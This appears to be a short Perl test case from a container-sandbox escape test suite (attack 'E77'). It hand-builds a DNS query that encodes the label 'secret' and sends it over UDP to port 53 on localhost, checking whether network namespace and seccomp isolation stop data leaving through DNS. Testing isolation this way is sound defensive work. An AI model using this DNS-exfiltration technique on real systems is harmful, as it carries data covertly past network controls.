# SPDX-License-Identifier: Apache-2.0
# attack: E77
# title: carry data out by asking a name server
# backends: docker
# expect: completed exit
# layers: network namespace, seccomp
# evidence: udp
# control docker: network-of-other seccomp
use Socket;
print "$ENV{TRIED}\n";
my $query = pack("nnnnnn", 1, 0x100, 1, 0, 0, 0) . "\x06secret\x07example\0" . pack("nn", 16, 1);
socket(my $socket, PF_INET, SOCK_DGRAM, 0) or exit 0;
send($socket, $query, 0, pack_sockaddr_in(53, inet_aton("127.0.0.1")));
